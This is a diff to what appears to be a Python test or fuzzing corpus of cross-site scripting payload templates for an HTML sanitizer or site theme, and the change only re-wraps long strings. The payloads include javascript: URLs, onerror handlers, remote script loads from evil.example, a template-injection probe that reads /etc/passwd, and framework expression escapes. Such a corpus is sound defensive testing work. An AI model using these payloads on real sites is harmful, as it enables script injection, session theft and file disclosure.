@@ -66,8 +66,14 @@ _SCRIPT_ELEMENTS = (
     "<script type=text/javascript src=data:,{run}></script>",
     "<script src=//evil.example/x.js></script>",
     "<script async src=https:evil.example/x.js></script>",
-    '<script type=importmap>{{"imports":{{"a":"data:text/javascript,{run}"}}}}</script>',
-    '<script type=speculationrules>{{"prefetch":[{{"urls":["//evil.example/"]}}]}}</script>',
+    (
+        '<script type=importmap>{{"imports":{{"a":"dat'
+        'a:text/javascript,{run}"}}}}</script>'
+    ),
+    (
+        '<script type=speculationrules>{{"prefetch":[{'
+        '{"urls":["//evil.example/"]}}]}}</script>'
+    ),
     "<script><!--{run}--></script>",
     "<script>//<![CDATA[\n{run}\n//]]></script>",
     "<<script>{run}//<</script>",
@@ -111,7 +117,10 @@ _FRAMES = (
     '<meta http-equiv=refresh content="0;url=javascript:{run}">',
     '<meta http-equiv=refresh content="0;url=data:text/html,<script>{run}</script>">',
     "<meta http-equiv=refresh content='0;url=//evil.example/'>",
-    '<meta http-equiv=content-security-policy content="default-src *"><script>{run}</script>',
+    (
+        "<meta http-equiv=content-security-policy cont"
+        'ent="default-src *"><script>{run}</script>'
+    ),
     "<meta http-equiv=set-cookie content=a=b>",
     "<meta charset=utf-7>+ADw-script+AD4-{run}+ADw-/script+AD4-",
     "<link rel=import href=data:text/html,x>",
@@ -120,7 +129,10 @@ _FRAMES = (
     "<link rel=preload as=script href=//evil.example/x.js>",
     "<link rel=modulepreload href=//evil.example/x.js>",
     "<link rel=prefetch href=//evil.example/>",
-    "<link rel=dns-prefetch href=//evil.example/><link rel=preconnect href=//evil.example/>",
+    (
+        "<link rel=dns-prefetch href=//evil.example/><"
+        "link rel=preconnect href=//evil.example/>"
+    ),
     "<link rel=manifest href=//evil.example/x.json>",
     "<link rel=icon href=//evil.example/x.ico>",
     "<form action=javascript:{run}><button>x</button></form>",
@@ -154,7 +166,10 @@ _FRAMES = (
     "<svg><style>@import '//evil.example/x';</style>",
     "<svg><handler type=text/javascript ev:event=load>{run}</handler>",
     "<math href=javascript:{run}>x</math>",
-    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
+    (
+        "<math><maction actiontype=statusline xlink:hr"
+        "ef=javascript:{run}>x</maction></math>"
+    ),
     "<math><semantics><annotation-xml encoding=text/html><img src=x onerror={run}>",
     "<xml><x src=x onerror={run}></xml>",
     "<?xml-stylesheet href=javascript:{run}?>",
@@ -185,19 +200,31 @@ _OF_THE_THEME = (
     '<pre class="mermaid">graph TD; a-->b; click a "javascript:{run}"</pre>',
     '<pre class="mermaid">%%{{init: {{"securityLevel":"loose"}}}}%%\ngraph TD;a</pre>',
     "<pre data-mermaid class=mermaid onclick={run}>x</pre>",
-    '<code class="js-render-math" data-math-style="display">\\href{{javascript:{run}}}x</code>',
+    (
+        '<code class="js-render-math" data-math-style='
+        '"display">\\href{{javascript:{run}}}x</code>'
+    ),
     '<div data-live data-copy="<img src=x onerror={run}>">x</div>',
     '<script data-live data-none="<img src=x onerror={run}>"></script>',
-    '<div class=search role=search><input name=q value="<img src=x onerror={run}>"></div>',
+    (
+        "<div class=search role=search><input name=q v"
+        'alue="<img src=x onerror={run}>"></div>'
+    ),
     '<a class=anchor href="javascript:{run}">x</a>',
     '<a data-wikilink href="javascript:{run}">x</a>',
     '<a data-original-href="javascript:{run}" href=x>x</a>',
     '<div id=siteContent class=results data-preview="javascript:{run}">x</div>',
     "<button class=copy type=button onclick={run}>Copy</button>",
     "<div class=preview-bar data-edit=javascript:{run}>x</div>",
-    "{{{{ ''.__class__.__mro__ }}}} {{% include '/etc/passwd' %}}<img src=x onerror={run}>",
+    (
+        "{{{{ ''.__class__.__mro__ }}}} {{% include '/"
+        "etc/passwd' %}}<img src=x onerror={run}>"
+    ),
     "{{{{constructor.constructor('{run}')()}}}} <x ng-app ng-csp ng-focus={run}>",
-    "<div v-html='{run}' x-init='{run}' hx-on:load='{run}' data-bind='click: {run}'>x</div>",
+    (
+        "<div v-html='{run}' x-init='{run}' hx-on:load"
+        "='{run}' data-bind='click: {run}'>x</div>"
+    ),
 )
 CLOBBERED = (
     *("body", "head", "cookie", "forms", "links", "scripts", "images", "location"),
